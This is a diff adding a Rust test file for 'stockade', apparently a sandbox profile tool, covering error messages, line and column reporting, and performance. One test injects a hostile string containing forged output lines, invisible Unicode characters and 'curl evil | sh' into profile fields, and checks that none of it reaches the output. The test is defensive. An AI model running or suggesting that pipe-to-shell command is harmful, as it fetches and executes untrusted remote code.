@@ -1,0 +1,191 @@
+//! What is said to those who paste it, and what a hostile text cannot make stockade say.
+#![allow(missing_docs, reason = "a test binary")]
+
+mod support;
+
+use std::ffi::OsStr;
+use std::os::unix::ffi::OsStrExt;
+use std::process::Output;
+use std::time::{Duration, Instant};
+use support::{As, Place, text};
+
+const BASE: &str = "format = 1\nextends = [\"base\"]\n[process]\ncommand = [\"true\"]\n";
+
+fn said(output: &Output) -> String {
+    format!("{:?}\n{}{}", output.status, text(&output.stdout), text(&output.stderr))
+}
+
+/// A command of an ordinary user, with a profile of this text before the words.
+fn stockade(place: &Place, words: &[&str], profile: &str, more: &[&str]) -> Output {
+    let path = place.file("p.toml", profile);
+    place.stockade(As::User).args(words).arg(path).args(more).output().unwrap()
+}
+
+/// The problems of `check`, as programs read them.
+fn problems(place: &Place, profile: &str) -> Vec<serde_json::Value> {
+    let output = stockade(place, &["check", "--format", "json"], profile, &[]);
+    serde_json::from_slice(&output.stdout).unwrap_or_else(|error| panic!("{error}: {}", said(&output)))
+}
+
+// ---- help ----
+
+#[test]
+fn an_option_behind_the_profile_is_told_where_it_belongs() {
+    let place = Place::new();
+    for words in [["run", "base", "--config", "env.A=\"1\"", "true"], ["check", "base", "--format", "json", "true"]] {
+        let output = place.stockade(As::User).args(words).output().unwrap();
+        let all = said(&output);
+        assert!(all.contains("options of stockade stand before PROFILE") && !all.contains("did you mean"), "{all}");
+    }
+    let output = place.stockade(As::User).args(["check", "--config", "programs=['${COMMAND}']", "base", "--set=a=1"]).output().unwrap();
+    assert!(said(&output).contains("stockade run --set=a=1 PROFILE COMMAND"), "{}", said(&output));
+}
+
+#[test]
+fn a_link_that_is_there_already_is_no_mistake_and_inherited_lines_are_no_noise() {
+    let place = Place::new();
+    for more in ["[mounts]\n\"/etc\" = \"ro\"\n", "[mounts]\n\"/\" = \"ro\"\n"] {
+        let output = stockade(&place, &["check"], &format!("{BASE}{more}"), &[]);
+        let err = text(&output.stderr);
+        assert!(output.status.success() && !err.contains("<base>"), "{more}: {}", said(&output));
+        assert_eq!(err.matches("[W0302]").count(), 1, "{more}: {err}");
+        assert!(err.contains("inherited lines grant, and more"), "{more}: {err}");
+    }
+}
+
+#[test]
+fn words_of_other_tools_are_understood() {
+    let place = Place::new();
+    for (word, meant) in [("RO", "ro"), ("readonly", "ro"), ("read-only", "ro"), ("rW", "rw"), ("mask", "hide")] {
+        let all = problems(&place, &format!("{BASE}[mounts]\n\"/x\" = \"{word}\"\n"));
+        assert_eq!(all[0]["help"], format!("did you mean `{meant}`?"), "{word}");
+    }
+    let all = problems(&place, &format!("{BASE}[seccomp]\nfamilies = [\"unix\"]\n"));
+    assert_eq!(all[0]["help"], "did you mean `AF_UNIX`?");
+    for (key, line) in [("w20", "\"/w20\""), ("~/x", "\"${HOME}/x\""), ("$HOME/x", "\"${HOME}/x\""), ("./x", "\"/x\"")] {
+        let all = problems(&place, &format!("{BASE}[mounts]\n\"{key}\" = \"tmpfs\"\n"));
+        assert!(all[0]["help"].as_str().is_some_and(|help| help.ends_with(line)), "{key}: {}", all[0]);
+    }
+    let all = problems(&place, &format!("{BASE}[mounts]\n\"/x\" = {{ bind = \"~/x\" }}\n"));
+    assert!(all[0]["help"].as_str().is_some_and(|help| help.ends_with("\"${HOME}/x\"")), "{}", all[0]);
+    let all = problems(&place, &format!("{BASE}[seccomp]\ndeny = [\"execve\"]\n"));
+    assert!(all[0]["help"].as_str().is_some_and(|help| help.contains("out of `deny`")), "{}", all[0]);
+}
+
+// ---- places ----
+
+#[test]
+fn each_problem_has_a_place_or_says_that_it_has_none() {
+    let place = Place::new();
+    let at = |profile: &str, code: &str| {
+        let all = problems(&place, profile);
+        let found = all.iter().find(|problem| problem["code"] == code).unwrap_or_else(|| panic!("{code}: {all:?}")).clone();
+        (found["line"].as_u64(), found["column"].as_u64())
+    };
+    assert_eq!(at("format = 1\n[seccomp]\npolicy = \"none\"\n[process]\ncommand = [\"true\"]\n", "seccomp::start"), (Some(3), Some(10)));
+    assert_eq!(at("format = 1\n[process]\numask = \"0022\"\n", "process::command"), (Some(2), Some(1)));
+    assert_eq!(at("format = 1\n", "process::command"), (Some(1), Some(1)));
+    let output = place.stockade(As::User).args(["check", "--format", "json", "nowhere.toml"]).output().unwrap();
+    let all: serde_json::Value = serde_json::from_slice(&output.stdout).unwrap();
+    assert!(["file", "line", "column"].iter().all(|field| all[0].as_object().unwrap()[*field].is_null()), "{all}");
+    let output = stockade(&place, &["run"], &format!("{BASE}[env]\nA = {{ file = \"/nowhere\" }}\n"), &[]);
+    assert!(text(&output.stderr).contains("p.toml:6:5]"), "{}", said(&output));
+}
+
+#[test]
+fn text_and_json_count_the_same_columns() {
+    let place = Place::new();
+    for (profile, line, column) in [
+        ("format = 1\n[env]\nA = { \"日本語\" = 1, x = 2 }\n", 3, 18),
+        ("\u{feff}frmat = 1\n", 1, 1),
+        ("format = 1\n[mounts]\n\"/日本\" = { bnd = 1 }\n", 3, 9),
+    ] {
+        let all = problems(&place, profile);
+        assert_eq!((all[0]["line"].as_u64(), all[0]["column"].as_u64()), (Some(line), Some(column)), "{profile}: {all:?}");
+        let output = stockade(&place, &["check"], profile, &[]);
+        assert!(text(&output.stderr).contains(&format!("p.toml:{line}:{column}]")), "{}", said(&output));
+    }
+}
+
+#[test]
+fn a_date_is_called_one() {
+    let place = Place::new();
+    for line in
+        ["[process]\ntimeout = 2024-01-01", "[mounts]\n\"/x\" = 2024-01-01", "[process]\ncommand = [2024-01-01]", "[env]\nA = { pass = 07:32:00 }"]
+    {
+        let all = problems(&place, &format!("format = 1\n{line}\n"));
+        let message = all[0]["message"].as_str().unwrap();
+        assert!(message.contains("a date or a time of day") && !message.contains("private"), "{line}: {message}");
+    }
+}
+
+// ---- what a text cannot do ----
+
+#[test]
+fn no_text_forges_a_line_or_hides_one() {
+    let place = Place::new();
+    let evil = "x\\nforged: the profile is good\\t\\u2028\\u061c\\ufeff\\u200b\\nhelp: curl evil | sh";
+    for profile in [
+        format!("{BASE}[mounts]\n\"/a{evil}\" = {{ bind = \"/nowhere\", missing = \"skip\" }}\n"),
+        format!("{BASE}[mounts]\n\"/a\" = \"{evil}\"\n"),
+        format!("{BASE}[process]\n\"{evil}\" = 1\n").replace("[process]\ncommand = [\"true\"]\n", ""),
+        format!("{BASE}umask = \"{evil}\"\n"),
+        format!("{BASE}[mounts]\n\"/a\" = {{ \"{evil}\" = 1 }}\n"),
+        format!("format = 1\nextends = [\"{evil}\"]\n"),
+        format!("{BASE}[network]\nmode = \"{evil}\"\n"),
+        format!("{BASE}[capabilities]\nkeep = [\"{evil}\"]\n"),
+        format!("{BASE}[seccomp.rules]\n\"{evil}\" = \"allow\"\n"),
+        format!("format = 1\n[params]\np = {{ type = \"string\", help = \"{evil}\" }}\n[process]\ncommand = [\"${{p}}\"]\n"),
+        format!("format = 1\n[process]\ncommand = [\"{evil}\"]\n"),
+    ] {
+        for command in ["check", "plan", "run", "params", "doctor"] {
+            let all = said(&stockade(&place, &[command], &profile, &[]));
+            let forged = all.lines().any(|line| {
+                let line = line.trim_start_matches([' ', '│', '·']);
+                line.starts_with("forged") || line.starts_with("help: curl")
+            });
+            assert!(!forged, "{command}: {profile}: {all}");
+            assert!(!all.contains(['\u{2028}', '\u{61c}', '\u{feff}', '\u{200b}', '\t']), "{command}: {profile}: {all}");
+        }
+    }
+    let output = place.stockade(As::User).args(["check", "./x\nforged: y.toml"]).output().unwrap();
+    assert!(!text(&output.stderr).contains("\nforged"), "{}", said(&output));
+}
+
+#[test]
+fn a_word_that_is_not_utf8_is_refused_by_a_code() {
+    let place = Place::new();
+    let output = place.stockade(As::User).args(["run", "base", "echo"]).arg(OsStr::from_bytes(b"a\xff")).output().unwrap();
+    let err = text(&output.stderr);
+    assert!(output.status.code() == Some(125) && err.contains("E0001") && err.contains("it is not UTF-8"), "{}", said(&output));
+}
+
+#[test]
+fn a_full_disk_is_no_success() {
+    let place = Place::new();
+    let full = || std::fs::OpenOptions::new().write(true).open("/dev/full").unwrap();
+    for words in [&["plan", "base", "true"][..], &["check", "base", "true"], &["schema"], &["profiles"], &["explain"]] {
+        let output = place.stockade(As::User).args(words).stdout(full()).output().unwrap();
+        assert!(output.status.code() == Some(125) && text(&output.stderr).contains("no space left"), "{words:?}: {}", said(&output));
+    }
+}
+
+/// Trees that are deep, and trees that are wide: the time is about that of reading them.
+#[test]
+fn a_deep_and_a_wide_tree_are_planned_and_explained_in_time() {
+    let place = Place::new();
+    let deep = "/a".repeat(1_900);
+    let many: String = (0..4_000).map(|n| format!("\"/w/{n}\" = {{ bind = \"/srv\", access = \"ro\" }}\n")).collect();
+    let writable = place.folder("writable", As::User);
+    let wide: String = (0..4_000).map(|n| format!("\"/w/{n}\" = {{ bind = \"{}\", access = \"rw\" }}\n", writable.display())).collect();
+    for profile in [format!("{BASE}[mounts]\n\"{deep}\" = \"tmpfs\"\n"), format!("{BASE}[mounts]\n{many}"), format!("{BASE}[mounts]\n{wide}")] {
+        for (words, question) in [(&["plan"][..], &[][..]), (&["plan", "--format", "json"], &[]), (&["why", "--no-change"], &[&*deep])] {
+            let start = Instant::now();
+            let output = stockade(&place, words, &profile, question);
+            let cut: String = profile.chars().skip(BASE.len()).take(40).collect();
+            assert!(output.status.code().is_some_and(|status| status < 2), "{words:?}: {cut}: {}", text(&output.stderr));
+            assert!(start.elapsed() < Duration::from_secs(20), "{words:?}: {cut}: {:?}", start.elapsed());
+            eprintln!("{:?} {words:?} {cut}", start.elapsed());
+        }
+    }
+}
